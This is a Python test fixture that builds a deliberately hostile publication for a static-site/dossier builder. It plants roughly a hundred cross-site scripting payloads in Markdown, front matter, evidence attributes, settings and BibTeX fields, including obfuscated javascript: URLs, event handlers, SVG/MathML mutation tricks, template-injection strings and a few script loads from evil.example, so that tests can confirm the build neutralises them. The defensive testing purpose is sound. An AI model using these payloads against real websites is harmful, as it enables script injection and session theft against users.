"""A hostile publication: script-injection vectors in every place a writer can put text.

tests/test_xss.py builds it and checks every output file; tests/test_xss_browser.py loads
every page in Chromium. The vectors are placed in Markdown bodies, front matter, evidence
box attributes, dossier.yml and .bib fields; none of them is an input error, so the build
must succeed and neutralise all of them.
"""

from __future__ import annotations

from pathlib import Path

from helpers import write

# Raw HTML: sanitised away (or escaped) unless the publication sets unsafe_html.
HTML_VECTORS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<ScRiPt>alert('xss-3')</sCrIpT>",
    "<img src=x onerror=alert('xss-4')>",
    '<img src="x" onerror="alert(\'xss-5\')">',
    '<IMG SRC="javascript:alert(\'xss-6\')">',
    "<img src=JaVaScRiPt:alert('xss-7')>",
    '<img src="&#106;avascript:alert(\'xss-8\')">',
    '<img src="&#x6A;avascript:alert(\'xss-9\')">',
    '<img src="&#0000106&#0000097vascript:alert(\'xss-10\')">',
    '<a href="jav&#x09;ascript:alert(\'xss-11\')">tab entity</a>',
    "<a href=\"jav\tascript:alert('xss-12')\">tab</a>",
    "<a href=\"jav\nascript:alert('xss-13')\">newline</a>",
    "<a href=\"java\x00script:alert('xss-14')\">null byte</a>",
    '<a href="  javascript:alert(\'xss-15\')">leading spaces</a>',
    '<a href="vbscript:msgbox(\'xss-16\')">vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNyk8L3NjcmlwdD4=">data html</a>',
    '<a href="javascript&colon;alert(\'xss-18\')">colon entity</a>',
    "<svg onload=alert('xss-19')>",
    "<svg><script>alert('xss-20')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss-21')\"><text x=\"0\" y=\"10\">svg link</text></a></svg>",
    "<iframe srcdoc=\"<script>alert('xss-22')</script>\"></iframe>",
    "<iframe src=\"javascript:alert('xss-23')\"></iframe>",
    "<object data=\"javascript:alert('xss-24')\"></object>",
    "<embed src=\"javascript:alert('xss-25')\">",
    "<form action=\"javascript:alert('xss-26')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('xss-27')\">go</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-28')>",
    "<math href=\"javascript:alert('xss-29')\">math link</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert('xss-30')\">x</maction></math>",
    "\"><script>alert('xss-31')</script>",
    "' onmouseover='alert(\"xss-32\")",
    "</textarea><script>alert('xss-33')</script>",
    "<style>@import 'https://evil.example/xss.css'; body{background:url(javascript:alert('xss-34'))}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-35')\">",
    "<base href=\"javascript:alert('xss-36')//\">",
    "<details open ontoggle=alert('xss-37')>details</details>",
    "<body onload=alert('xss-38')>",
    "<input autofocus onfocus=alert('xss-39')>",
    "<video><source onerror=alert('xss-40')></video>",
    "<link rel=stylesheet href=\"javascript:alert('xss-41')\">",
    "<div style=\"background:url(javascript:alert('xss-42'))\">styled</div>",
    "<blockquote cite=\"javascript:alert('xss-43')\">cited</blockquote>",
    "<img src=x:alert(alt) onerror=eval(src) alt='xss-44'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-45')>\"></noscript>",
    "<!--<img src=\"--><img src=x onerror=alert('xss-46')//\">",
    "<a href=\"#\" onclick=\"alert('xss-47')\">click</a>",
    "<template><script>alert('xss-48')</script></template>",
    "<isindex action=\"javascript:alert('xss-49')\" type=image>",
    "<marquee onstart=alert('xss-50')>m</marquee>",
    "<a href=\"https://example.org/\" onmouseover=\"alert('xss-51')\">hover</a>",
    "<table background=\"javascript:alert('xss-52')\"><tr><td>t</td></tr></table>",
    "<img srcset=\"x 1x, javascript:alert('xss-53') 2x\">",
    "<a href=\"ja&Tab;vascript:alert('xss-54')\">named tab</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('xss-55')\">no semicolons</a>",
    "<xmp><script>alert('xss-56')</script></xmp>",
    "<plaintext><script>alert('xss-57')</script>",
    "<a href=\"data:text/html,<script>alert('xss-58')</script>\">data plain</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNTkpPg==\">",
    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/xss.sct\"></object>",
    "<applet code=\"xss\"></applet>",
    "<frameset onload=alert('xss-62')>",
    "<keygen autofocus onfocus=alert('xss-63')>",
    "<select autofocus onfocus=alert('xss-64')></select>",
    "<textarea autofocus onfocus=alert('xss-65')></textarea>",
    "<a href=\"javascript:alert('xss-66')\">plain javascript link</a>",
    "<area href=\"javascript:alert('xss-67')\">",
    "https://example.org/?q=\"><script>alert('xss-89')</script>",
]

# Markdown syntax: links and attributes the parser must refuse whatever unsafe_html says.
MARKDOWN_VECTORS = [
    "[md-68](javascript:alert('xss-68'))",
    "[md-69](JAVASCRIPT:alert('xss-69'))",
    "[md-70](JaVaScRiPt:alert('xss-70'))",
    "![md-71](javascript:alert('xss-71'))",
    "<javascript:alert('xss-72')>",
    "<vbscript:msgbox('xss-73')>",
    "[md-74][evil-ref]",
    "[md-75](vbscript:msgbox('xss-75'))",
    "[md-76](data:text/html;base64,PHNjcmlwdD5hbGVydCg3Nik8L3NjcmlwdD4=)",
    "![md-77](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNzcpPg==)",
    "[md-78](&#106;avascript:alert('xss-78'))",
    "[md-79](&#x6A;avascript:alert('xss-79'))",
    "[md-80](<javascript:alert('xss-80')>)",
    "[md-81](https://example.org/ \"\\\" onmouseover=\\\"alert('xss-81')\")",
    "![md-82](https://example.org/x.png \"\\\" onerror=\\\"alert('xss-82')\")",
    "[md-83](https://example.org/){onclick=\"alert('xss-83')\"}",
    "[md-84](https://example.org/){#md84 .x onmouseover=\"alert('xss-84')\" href=\"javascript:alert('xss-84')\"}",
    "![md-85](https://example.org/x.png){onerror=\"alert('xss-85')\" src=\"javascript:alert('xss-85')\"}",
    "[md-86]{onclick=\"alert('xss-86')\"}",
    "`<script>alert('xss-87')</script>`",
    "www.example.org/\"onmouseover=alert('xss-88')",
    "[md-90](javascript&colon;alert('xss-90'))",
    "[md-91](javas&#99;ript:alert('xss-91'))",
    "Template {{ 7*7 }} and {% raw %}raw{% endraw %} and {{ config }} and {# comment #}",
]

REFERENCE_DEFINITIONS = "[evil-ref]: javascript:alert('xss-74')\n"

# Markdown constructs with attributes and code: no raw HTML, safe whatever unsafe_html says.
MARKDOWN_BLOCKS = """\
## Heading {onclick="alert('xss-92')"}

::: {.note onclick="alert('xss-93')" onmouseover="alert('xss-93b')" style="background:url(javascript:alert(1))"}
A fenced div with event attributes.
:::

```html
<script>alert('xss-94')</script>
```
"""

# Raw HTML inside other Markdown constructs: footnotes, definition lists, tables, evidence quotes.
RAW_HTML_BLOCKS = """\
<div onclick="alert('xss-95')">
<script>alert('xss-95b')</script>
</div>

A footnote.[^evil]

[^evil]: <img src=x onerror=alert('xss-96')> and [a link](javascript:alert('xss-96b')).

Term <script>alert('xss-97')</script>
: Definition <img src=x onerror=alert('xss-97b')>

| Column <script>alert('xss-98')</script> |
|---|
| <img src=x onerror=alert('xss-98b')> |

::: {.evidence #ev-raw source=evil2016}
Party cadres <script>alert('quote')</script> do not feel <img src=x onerror=alert('quote-img')> loyalty.
:::
"""

# The one literal text that template injection must print unchanged.
TEMPLATE_TEXT = "{{ 7*7 }}"

FRONT_MATTER = """\
---
title: "<script>alert('title')</script> {{ 7*7 }} {% raw %}"
subtitle: "\\"><img src=x onerror=alert('subtitle')>"
date: 2016-04-08
authors:
  - name: "<img src=x onerror=alert('author')>"
    affiliation: "</a><script>alert('affiliation')</script>"
    orcid: "javascript:alert('orcid')"
  - "Jane \\"onmouseover=alert('author2')"
tags: ["<svg onload=alert('tag')>", "\\"><script>alert('tag2')</script>", "{{ 7*7 }}"]
summary: "</script><script>alert('summary')</script> {{ 7*7 }}\\nER  - \\nTY  - JOUR"
custom: "<script>alert('extra')</script>"
---
"""

EVIDENCE = """\
The quote (@ev-evil).

::: {.evidence #ev-evil source=evil2016 date="2016-03-14?" locator="<img src=x onerror=alert('locator')>" grade=B2 url="javascript:alert('url')" archived="JaVaScRiPt:alert('archived')" note="<script>alert('note')</script>" translated=ko translator="<svg onload=alert('translator')>"}
Party cadres do not feel loyalty.

::: original
간부들은 충성심을 느끼지 않는다 [원문](javascript:alert('original')).
:::
:::

::: {.evidence #ev-evil2 source=evil2016 url="  javascript:alert('url2')" archived="data:text/html,<script>alert('archived2')</script>" date=2016-03-14}
Second box with a [link](javascript:alert('quote2')).
:::

::: {.evidence #ev-evil3 source=evil2016 url="https://example.org/\\"><script>alert('url3')</script>" archived="https://example.org/' onmouseover='alert(1)"}
Third box.
:::
"""

CITATIONS = """\
A citation [<script>alert('prefix')</script> @evil2016, p. 3 <img src=x onerror=alert('suffix')>] and @evil2016
and [see @plain2016; @evil2016].
"""

BIB = r"""@article{evil2016,
  author  = {<img src=x onerror=alert('bib-author')> and {"><script>alert('bib-author2')</script>}},
  title   = {<script>alert('bib-title')</script> {{ 7*7 }}},
  journal = {<svg onload=alert('bib-journal')>},
  year    = {2016},
  url     = {javascript:alert('bib-url')},
  doi     = {10.1234/"><script>alert('bib-doi')</script>},
  note    = {<iframe src="javascript:alert('bib-note')"></iframe>},
  reliability = {"><script>alert('bib-reliability')</script>},
}

@online{plain2016,
  author  = {Plain, Pat},
  title   = {A Title With a Newline
  ER  - and a TY  - JOUR inside},
  url     = {JaVaScRiPt:alert('bib-url2')},
  doi     = {javascript:alert('bib-doi2')},
  date    = {2016-01-02},
}
"""

SETTINGS = """\
title: "<script>alert('site-title')</script> {{ 7*7 }}"
description: "\\"><img src=x onerror=alert('site-description')> </title><script>alert('d')</script>"
base_url: https://example.org/hostile/
language: en
authors: ["<script>alert('site-author')</script>"]
extra:
  note: "<script>alert('extra')</script>"
{unsafe}"""

PAGE = """\
---
title: "About <script>alert('page')</script>"
---

An about page with [a link to the article](../articles/hostile.md).

{raw}
"""


def make_hostile_publication(root: Path, unsafe_html: bool = False) -> Path:
    """Write the hostile publication under root.

    With unsafe_html the publication trusts its writers' raw HTML, so the bodies hold none:
    what remains (front matter, .bib, evidence attributes, Markdown links and attributes)
    must still be neutralised."""
    write(root / "dossier.yml", SETTINGS.format(unsafe="unsafe_html: true\n" if unsafe_html else ""))
    parts = [] if unsafe_html else ["\n\n".join(HTML_VECTORS), RAW_HTML_BLOCKS]
    parts += ["\n\n".join(MARKDOWN_VECTORS), REFERENCE_DEFINITIONS, MARKDOWN_BLOCKS, EVIDENCE, CITATIONS]
    write(root / "content" / "articles" / "hostile.md", FRONT_MATTER + "\n" + "\n\n".join(parts) + "\n")
    raw = "" if unsafe_html else "<img src=x onerror=alert('page-body')> <svg><script>alert('page-svg')</script>"
    write(root / "content" / "pages" / "about.md", PAGE.replace("{raw}", raw))
    write(root / "citations" / "sources.bib", BIB)
    return root
